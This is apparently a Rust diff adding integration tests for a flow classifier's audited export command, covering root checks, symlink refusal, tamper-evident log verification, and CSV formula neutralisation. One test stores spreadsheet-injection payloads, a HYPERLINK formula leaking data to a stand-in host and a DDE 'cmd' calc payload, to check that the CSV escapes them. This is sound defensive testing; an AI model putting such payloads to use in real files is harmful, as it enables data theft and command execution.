@@ -3,17 +3,26 @@
 //! `nfdump` reads it back; `classifier export` writes CSV, JSON Lines and an IPFIX file
 //! that are read back too (the file by replaying it to a second nfcapd), each compared with
 //! what tcpdump saw; the audit log verifies, and a tampered one does not.
+//!
+//! The export audit, with the real binary on real SQLite stores, each command in a mount
+//! namespace whose /var/lib/classifier is the test's ([`AuditSandbox`]): exports need root;
+//! a linked log is refused and its target untouched; a SIGTERM while an export waits for
+//! the log's lock leaves no file; a log cut, reordered or edited fails `audit verify`
+//! (against a real journald, or a syslog socket of the test's); a torn last line is
+//! recovered and recorded; `SUDO_USER` names no one; a formula in a name is neutralised in
+//! the CSV and exact in the JSON Lines.
 
 use std::{
     net::{IpAddr, Ipv4Addr, SocketAddr},
-    path::Path,
+    os::unix::fs::PermissionsExt as _,
+    path::{Path, PathBuf},
     process::{Command, Output},
     time::{Duration, Instant},
 };
 
 use classifier_tests::{
+    audit::{AuditSandbox, wait_for},
     capture::{self, Capture},
-    classifier_bin,
     clients::curl_download,
     council_policy_with_short_idle,
     nfdump::{Collector, NfFlow},
@@ -22,9 +31,9 @@ use classifier_tests::{
 };
 use classifier_user::{
     export::ExportRow,
-    flows::Counters,
+    flows::{Counters, FlowRecord},
     lab::{Lab, topology::SERVICE_V4},
-    store::{Filter, FlowStore},
+    store::{EndReason, Filter, FlowStore},
 };
 
 const HTTP_PORT: u16 = 80;
@@ -74,18 +83,13 @@ fn exports_and_live_ipfix_read_back_with_the_bytes_that_crossed_the_wire() {
     let live = collector.finish().unwrap();
     check_ipfix(&live, &wire, server, "live IPFIX");
 
-    // Investigation exports.
-    let audit_log = data.join("audit.jsonl");
+    // Investigation exports, audited in a log of the test's (and a syslog socket).
+    let sandbox = AuditSandbox::with_syslog("lab-exports");
+    let audit_log = sandbox.log();
     let store = lab.store_path();
     let export = |extra: &[&str]| {
-        let mut command = Command::new(classifier_bin());
-        command
-            .arg("export")
-            .arg("--store")
-            .arg(&store)
-            .arg("--audit-log")
-            .arg(&audit_log)
-            .args(extra);
+        let mut command = sandbox.classifier();
+        command.arg("export").arg("--store").arg(&store).args(extra);
         command.output().unwrap()
     };
     let client_ip = client.ipv4.to_string();
@@ -190,13 +194,7 @@ fn exports_and_live_ipfix_read_back_with_the_bytes_that_crossed_the_wire() {
     assert!(String::from_utf8_lossy(&again.stderr).contains("never overwrites"));
 
     // The audit log: three exports, chained; a changed row count is found.
-    let verify = || {
-        Command::new(classifier_bin())
-            .args(["audit", "verify", "--audit-log"])
-            .arg(&audit_log)
-            .output()
-            .unwrap()
-    };
+    let verify = || sandbox.verify(&["--no-journal"]);
     let verified = succeeded(&verify());
     assert!(verified.contains("3 entries, chain intact"), "{verified}");
     let text = std::fs::read_to_string(&audit_log).unwrap();
@@ -334,4 +332,565 @@ fn succeeded(output: &Output) -> String {
         String::from_utf8_lossy(&output.stderr)
     );
     String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+/// Flows named `names`, one each, in a new SQLite store at `path`.
+fn store_with(path: &Path, names: &[&str]) {
+    let mut store = FlowStore::open(path).unwrap();
+    let first_seen: jiff::Timestamp = "2026-11-23T10:00:00Z".parse().unwrap();
+    let flows: Vec<FlowRecord> = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| FlowRecord {
+            client: SocketAddr::new(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10)), 40000 + i as u16),
+            client_mac: Some("02:00:00:00:00:0a".into()),
+            server: "203.0.113.10:443".parse().unwrap(),
+            protocol: "tcp".into(),
+            upload: Counters {
+                packets: 10,
+                bytes: 1000,
+            },
+            download: Counters {
+                packets: 20,
+                bytes: 9000,
+            },
+            first_seen,
+            last_seen: first_seen
+                .checked_add(jiff::SignedDuration::from_secs(30))
+                .unwrap(),
+            vlan: None,
+            server_initiated: false,
+            name: Some((*name).into()),
+            category: "gambling".into(),
+            app: "unknown".into(),
+            method: "sni".into(),
+            ech: false,
+            unreadable: false,
+            evasion: Vec::new(),
+            second_name: None,
+            second_category: None,
+            group: "staff".into(),
+            verdict: "block".into(),
+            blocked: Counters::default(),
+            shaped: Counters::default(),
+            ended: Some(EndReason::Fin),
+        })
+        .collect();
+    store.insert(&flows).unwrap();
+}
+
+/// A sandbox's work directory with a store of two flows; the store's path.
+fn work_store(sandbox: &AuditSandbox) -> (PathBuf, PathBuf) {
+    let work = sandbox.work_dir();
+    let store = work.join("flows.sqlite");
+    store_with(&store, &["www.example.com", "casino.example"]);
+    (work, store)
+}
+
+/// `classifier export` of everything in `store` to `out`, under `case`, in the sandbox.
+fn export_command(sandbox: &AuditSandbox, store: &Path, case: &str, out: &Path) -> Command {
+    let format = if out.extension().is_some_and(|e| e == "jsonl") {
+        "jsonl"
+    } else {
+        "csv"
+    };
+    let mut command = sandbox.classifier();
+    command
+        .args([
+            "export",
+            "--case",
+            case,
+            "--requested-by",
+            "J. Smith (Head of HR)",
+        ])
+        .args(["--format", format, "--store"])
+        .arg(store)
+        .arg("--out")
+        .arg(out);
+    command
+}
+
+fn failed(output: &Output) -> String {
+    assert!(
+        !output.status.success(),
+        "it succeeded: {}",
+        String::from_utf8_lossy(&output.stdout)
+    );
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+/// The files in `dir`, sorted.
+fn files_in(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    names
+}
+
+#[test]
+fn an_export_needs_root() {
+    if !privileged("an_export_needs_root") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("non-root");
+    // Everything an export touches is nobody's to write: the store, the directory it goes
+    // to, even the audit directory. Only root-ness is missing.
+    let open = sandbox.work_dir().join("open");
+    std::fs::create_dir(&open).unwrap();
+    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let store = open.join("flows.sqlite");
+    store_with(&store, &["www.example.com"]);
+    let nobody = nix::unistd::User::from_name("nobody").unwrap().unwrap();
+    let give = |path: &Path| {
+        nix::unistd::chown(path, Some(nobody.uid), Some(nobody.gid)).unwrap();
+    };
+    give(&store);
+    std::fs::create_dir(sandbox.audit_dir()).unwrap();
+    give(&sandbox.audit_dir());
+    let out = open.join("case.csv");
+    // As nobody: setpriv (util-linux) changes user inside the sandbox's namespace.
+    let as_root = export_command(&sandbox, &store, "HR-2026-010", &out);
+    let mut command = sandbox.command("setpriv");
+    command
+        .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"])
+        .arg(as_root.get_program())
+        .args(as_root.get_args());
+    let message = failed(&command.output().unwrap());
+    assert!(message.contains("needs root"), "{message}");
+    assert!(!out.exists());
+    assert_eq!(files_in(&open), ["flows.sqlite"]);
+    assert_eq!(
+        files_in(&sandbox.audit_dir()),
+        Vec::<String>::new(),
+        "nothing audited"
+    );
+
+    // As root it works (once the audit directory is root's again).
+    std::fs::remove_dir(sandbox.audit_dir()).unwrap();
+    let done = export_command(&sandbox, &store, "HR-2026-010", &out)
+        .output()
+        .unwrap();
+    succeeded(&done);
+    assert_eq!(sandbox.log_lines().len(), 1);
+}
+
+#[test]
+fn a_linked_audit_log_is_refused_and_its_target_untouched() {
+    if !privileged("a_linked_audit_log_is_refused_and_its_target_untouched") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("symlink");
+    let (work, store) = work_store(&sandbox);
+    let target = work.join("precious.txt");
+    std::fs::write(&target, "precious\n").unwrap();
+    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
+    std::fs::create_dir(sandbox.audit_dir()).unwrap();
+    std::os::unix::fs::symlink(&target, sandbox.log()).unwrap();
+
+    let out = work.join("case.csv");
+    let refused = export_command(&sandbox, &store, "HR-2026-011", &out)
+        .output()
+        .unwrap();
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious\n");
+    let mode = std::fs::metadata(&target).unwrap().permissions().mode() & 0o7777;
+    assert_eq!(mode, 0o644, "the link's target was not chmodded");
+    let message = failed(&refused);
+    assert!(message.contains("is a symbolic link"), "{message}");
+    assert!(!out.exists());
+    let message = failed(&sandbox.verify(&["--no-journal"]));
+    assert!(message.contains("is a symbolic link"), "{message}");
+}
+
+#[test]
+fn sigterm_while_waiting_for_the_audit_lock_leaves_no_export() {
+    if !privileged("sigterm_while_waiting_for_the_audit_lock_leaves_no_export") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("sigterm");
+    let (work, store) = work_store(&sandbox);
+    succeeded(
+        &export_command(&sandbox, &store, "HR-2026-012", &work.join("first.csv"))
+            .output()
+            .unwrap(),
+    );
+    let before = files_in(&work);
+    let lines = sandbox.log_lines();
+
+    // Another export holds the log.
+    let held = std::fs::File::open(sandbox.log()).unwrap();
+    held.lock().unwrap();
+    let out = work.join("second.csv");
+    let mut waiting = export_command(&sandbox, &store, "HR-2026-013", &out)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let pid = waiting.id();
+    // Blocked on the lock: /proc/locks shows it as a waiter (`->`).
+    wait_for(
+        Duration::from_secs(20),
+        "the export waiting for the lock",
+        || {
+            std::fs::read_to_string("/proc/locks")
+                .unwrap()
+                .lines()
+                .any(|l| l.contains("->") && l.split_whitespace().any(|w| w == pid.to_string()))
+        },
+    );
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(pid as i32),
+        nix::sys::signal::Signal::SIGTERM,
+    )
+    .unwrap();
+    let status = waiting.wait().unwrap();
+    assert_eq!(
+        std::os::unix::process::ExitStatusExt::signal(&status),
+        Some(15),
+        "{status}"
+    );
+    assert!(!out.exists(), "no export without its audit entry");
+    assert_eq!(
+        files_in(&work),
+        before,
+        "and no file of any name left behind"
+    );
+    drop(held);
+    assert_eq!(sandbox.log_lines(), lines, "no entry either");
+    let verified = succeeded(&sandbox.verify(&["--no-journal"]));
+    assert!(verified.contains("1 entries, chain intact"), "{verified}");
+}
+
+/// Three exports, audited and copied to the sandbox's journal (or syslog).
+fn three_exports(sandbox: &AuditSandbox) -> Vec<String> {
+    let (work, store) = work_store(sandbox);
+    for n in 1..=3 {
+        let out = work.join(format!("case-{n}.csv"));
+        succeeded(
+            &export_command(sandbox, &store, &format!("HR-2026-00{n}"), &out)
+                .output()
+                .unwrap(),
+        );
+    }
+    let lines = sandbox.log_lines();
+    assert_eq!(lines.len(), 3);
+    lines
+}
+
+#[test]
+fn a_cut_reordered_or_edited_audit_log_fails_verify_against_a_real_journald() {
+    let test = "a_cut_reordered_or_edited_audit_log_fails_verify_against_a_real_journald";
+    if !privileged(test) {
+        return;
+    }
+    let Some(sandbox) = AuditSandbox::with_journald("journald") else {
+        return;
+    };
+    let pristine = three_exports(&sandbox);
+    // The journal has them (journalctl -o export), each as it is in the log.
+    let journal = sandbox.witnessed(3);
+    for line in &pristine {
+        assert!(journal.contains(line.as_str()), "{line} in {journal}");
+    }
+    assert!(journal.contains("SYSLOG_IDENTIFIER=classifier-audit"));
+    assert!(journal.contains("CLASSIFIER_AUDIT_SEQ=3"));
+    let intact = succeeded(&sandbox.verify(&[]));
+    assert!(
+        intact.contains("3 entries, chain intact")
+            && intact.contains("3 of the log's 3 entries found"),
+        "{intact}"
+    );
+
+    let log = sandbox.log();
+    let write = |lines: &[String], end: &str| {
+        std::fs::write(&log, lines.join("\n") + end).unwrap();
+    };
+    // What is done to the log, and what verify must say.
+    type Damage<'a> = Box<dyn Fn() + 'a>;
+    let mut cases: Vec<(&str, Damage, &str)> = vec![
+        (
+            "last line deleted",
+            Box::new(|| write(&pristine[..2], "\n")),
+            "entry 3 (case HR-2026-003",
+        ),
+        (
+            "truncated in the last line",
+            Box::new(|| {
+                let cut = pristine.join("\n");
+                std::fs::write(&log, &cut[..cut.len() - 40]).unwrap();
+            }),
+            "line 3 is cut short",
+        ),
+        (
+            "truncated to nothing",
+            Box::new(|| std::fs::write(&log, "").unwrap()),
+            "the log was truncated",
+        ),
+        (
+            "deleted",
+            Box::new(|| std::fs::remove_file(&log).unwrap()),
+            "the log was deleted",
+        ),
+        (
+            "last two lines swapped",
+            Box::new(|| {
+                write(
+                    &[
+                        pristine[0].clone(),
+                        pristine[2].clone(),
+                        pristine[1].clone(),
+                    ],
+                    "\n",
+                )
+            }),
+            "line 2: entry 3 where entry 2 should be",
+        ),
+        (
+            "middle line deleted",
+            Box::new(|| write(&[pristine[0].clone(), pristine[2].clone()], "\n")),
+            "line 2: entry 3 where entry 2 should be",
+        ),
+        (
+            "last line edited",
+            Box::new(|| {
+                let mut lines = pristine.clone();
+                lines[2] = lines[2].replacen("\"rows\":2", "\"rows\":1", 1);
+                assert_ne!(lines[2], pristine[2]);
+                write(&lines, "\n")
+            }),
+            "line 3 (entry 3): its MAC does not match",
+        ),
+    ];
+    // The journal's copy, given as a file, finds the cut tail too.
+    let exported = sandbox.witnessed_file(3);
+    for (what, damage, expected) in cases.drain(..) {
+        damage();
+        for args in [&[][..], &["--journal", exported.to_str().unwrap()][..]] {
+            let message = failed(&sandbox.verify(args));
+            assert!(
+                message.contains("does NOT verify") && message.contains(expected),
+                "{what} ({args:?}): {message}"
+            );
+        }
+        write(&pristine, "\n");
+    }
+    succeeded(&sandbox.verify(&[]));
+}
+
+#[test]
+fn a_cut_tail_fails_verify_against_the_syslog_copy() {
+    if !privileged("a_cut_tail_fails_verify_against_the_syslog_copy") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("syslog");
+    let pristine = three_exports(&sandbox);
+    let copies = sandbox.witnessed(3);
+    assert!(
+        copies
+            .lines()
+            .all(|l| l.starts_with("<85>") && l.contains(" classifier-audit[")),
+        "authpriv.notice, tagged: {copies}"
+    );
+    let exported = sandbox.witnessed_file(3);
+    let journal = ["--journal", exported.to_str().unwrap()];
+    succeeded(&sandbox.verify(&journal));
+
+    std::fs::write(sandbox.log(), pristine[..2].join("\n") + "\n").unwrap();
+    // The log alone cannot tell; the syslog copy can.
+    succeeded(&sandbox.verify(&["--no-journal"]));
+    let message = failed(&sandbox.verify(&journal));
+    assert!(
+        message.contains("entry 3 (case HR-2026-003")
+            && message.contains("in the journal but not in the log, which ends at entry 2"),
+        "{message}"
+    );
+}
+
+#[test]
+fn a_torn_last_line_is_recovered_and_recorded() {
+    if !privileged("a_torn_last_line_is_recovered_and_recorded") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("torn");
+    let (work, store) = work_store(&sandbox);
+    for n in 1..=2 {
+        succeeded(
+            &export_command(
+                &sandbox,
+                &store,
+                &format!("HR-2026-02{n}"),
+                &work.join(format!("{n}.csv")),
+            )
+            .output()
+            .unwrap(),
+        );
+    }
+    // What a crash in the middle of writing the third entry leaves.
+    let torn = r#"{"v":2,"seq":3,"at":"2026-12-05T10:00:00Z","kind":"export","case":"HR-20"#;
+    let mut log = std::fs::OpenOptions::new()
+        .append(true)
+        .open(sandbox.log())
+        .unwrap();
+    std::io::Write::write_all(&mut log, torn.as_bytes()).unwrap();
+    drop(log);
+    let before = sandbox.verify(&[]);
+
+    // The next export is not blocked: it records the tear, then itself.
+    let out = work.join("3.csv");
+    let done = succeeded(
+        &export_command(&sandbox, &store, "HR-2026-023", &out)
+            .output()
+            .unwrap(),
+    );
+    // Before it, verify named the tear.
+    let message = failed(&before);
+    assert!(message.contains("line 3 is cut short"), "{message}");
+    assert!(
+        done.contains("torn line") && done.contains("entry 3 (the record of torn line 3"),
+        "{done}"
+    );
+    assert!(out.exists());
+    let lines = sandbox.log_lines();
+    assert_eq!(lines.len(), 5, "{lines:#?}");
+    assert_eq!(lines[2], torn, "the torn line stays, ended");
+    let record: serde_json::Value = serde_json::from_str(&lines[3]).unwrap();
+    assert_eq!(record["kind"], "torn");
+    assert_eq!(
+        (record["seq"].as_u64(), record["line"].as_u64()),
+        (Some(3), Some(3))
+    );
+    assert_eq!(record["bytes"].as_u64(), Some(torn.len() as u64));
+    assert_eq!(record["text"], torn);
+    let entry: serde_json::Value = serde_json::from_str(&lines[4]).unwrap();
+    assert_eq!(
+        (entry["seq"].as_u64(), entry["case"].as_str()),
+        (Some(4), Some("HR-2026-023"))
+    );
+
+    let exported = sandbox.witnessed_file(4);
+    let verified = succeeded(&sandbox.verify(&["--journal", exported.to_str().unwrap()]));
+    assert!(
+        verified.contains("4 entries, chain intact")
+            && verified.contains("line 3: a torn line, recorded")
+            && verified.contains("4 of the log's 4 entries found"),
+        "{verified}"
+    );
+}
+
+#[test]
+fn sudo_user_names_no_one_the_login_uid_does() {
+    if !privileged("sudo_user_names_no_one_the_login_uid_does") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("operator");
+    let (work, store) = work_store(&sandbox);
+    let nobody = nix::unistd::User::from_name("nobody").unwrap().unwrap();
+
+    // Logged in as nobody (as pam_loginuid would have set it), claiming to be alice.
+    let mut command = export_command(&sandbox, &store, "HR-2026-030", &work.join("1.csv"));
+    command
+        .env("SUDO_USER", "alice")
+        .env("LOGNAME", "alice")
+        .env("USER", "alice");
+    let uid = nobody.uid.as_raw();
+    // SAFETY: system calls only between fork and exec.
+    unsafe {
+        std::os::unix::process::CommandExt::pre_exec(&mut command, move || {
+            let fd = nix::fcntl::open(
+                "/proc/self/loginuid",
+                nix::fcntl::OFlag::O_WRONLY,
+                nix::sys::stat::Mode::empty(),
+            )?;
+            let mut digits = [0u8; 10];
+            let mut n = uid;
+            let mut at = digits.len();
+            loop {
+                at -= 1;
+                digits[at] = b'0' + (n % 10) as u8;
+                n /= 10;
+                if n == 0 {
+                    break;
+                }
+            }
+            nix::unistd::write(&fd, &digits[at..])?;
+            Ok(())
+        });
+    }
+    succeeded(&command.output().unwrap());
+    let entry: serde_json::Value = serde_json::from_str(&sandbox.log_lines()[0]).unwrap();
+    assert_eq!(entry["operator"], nobody.name.as_str(), "{entry}");
+    assert_eq!(entry["login_uid"].as_u64(), Some(uid as u64));
+    assert!(!sandbox.log_lines()[0].contains("alice"));
+
+    // The test's own login uid, whatever it is (unset when no login session started it).
+    let ours: u32 = std::fs::read_to_string("/proc/self/loginuid")
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let mut command = export_command(&sandbox, &store, "HR-2026-031", &work.join("2.csv"));
+    command.env("SUDO_USER", "alice");
+    succeeded(&command.output().unwrap());
+    let entry: serde_json::Value = serde_json::from_str(&sandbox.log_lines()[1]).unwrap();
+    if ours == u32::MAX {
+        assert_eq!(entry["operator"], "unset", "{entry}");
+        assert!(entry["login_uid"].is_null());
+    } else {
+        assert_eq!(entry["login_uid"].as_u64(), Some(ours as u64), "{entry}");
+    }
+    assert_ne!(entry["operator"], "alice");
+}
+
+#[test]
+fn a_formula_in_a_name_is_neutralised_in_csv_and_exact_in_jsonl() {
+    if !privileged("a_formula_in_a_name_is_neutralised_in_csv_and_exact_in_jsonl") {
+        return;
+    }
+    let sandbox = AuditSandbox::with_syslog("formula");
+    let work = sandbox.work_dir();
+    let store = work.join("flows.sqlite");
+    let name = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")"#;
+    store_with(&store, &[name, "+cmd|' /C calc'!A0", "www.example.com"]);
+
+    let csv_out = work.join("case.csv");
+    succeeded(
+        &export_command(&sandbox, &store, "HR-2026-040", &csv_out)
+            .output()
+            .unwrap(),
+    );
+    let mut reader = csv::Reader::from_path(&csv_out).unwrap();
+    let headers = reader.headers().unwrap().clone();
+    let column = headers.iter().position(|h| h == "name").unwrap();
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[column].to_owned())
+        .collect();
+    assert_eq!(
+        names,
+        [
+            format!("'{name}"),
+            "'+cmd|' /C calc'!A0".into(),
+            "www.example.com".into()
+        ]
+    );
+    let text = std::fs::read_to_string(&csv_out).unwrap();
+    assert!(
+        !text.contains(",\"=HYPERLINK") && !text.contains(",=HYPERLINK"),
+        "{text}"
+    );
+
+    let jsonl_out = work.join("case.jsonl");
+    succeeded(
+        &export_command(&sandbox, &store, "HR-2026-041", &jsonl_out)
+            .output()
+            .unwrap(),
+    );
+    let rows: Vec<ExportRow> = std::fs::read_to_string(&jsonl_out)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let exact: Vec<&str> = rows.iter().map(|r| r.name.as_str()).collect();
+    assert_eq!(exact, [name, "+cmd|' /C calc'!A0", "www.example.com"]);
 }
